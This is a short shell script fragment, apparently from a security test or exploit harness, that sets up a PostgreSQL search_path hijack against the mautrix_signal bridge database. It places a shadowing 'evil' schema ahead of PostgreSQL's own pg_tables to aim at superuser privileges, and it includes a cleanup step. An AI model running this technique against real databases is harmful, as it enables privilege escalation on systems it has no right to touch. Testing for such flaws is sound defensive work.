# The bridge's role gives its database a search_path with a view pg_tables of its own before PostgreSQL's.
fear=superuser
strike() { { trap_function evil mautrix_signal; trap_names evil mautrix_signal; } | sql_as mautrix_signal mautrix_signal; }
clean() {
  if ! sql mautrix_signal <<< 'ALTER DATABASE mautrix_signal RESET search_path; DROP SCHEMA IF EXISTS evil CASCADE;' 2> /dev/null; then :; fi
}
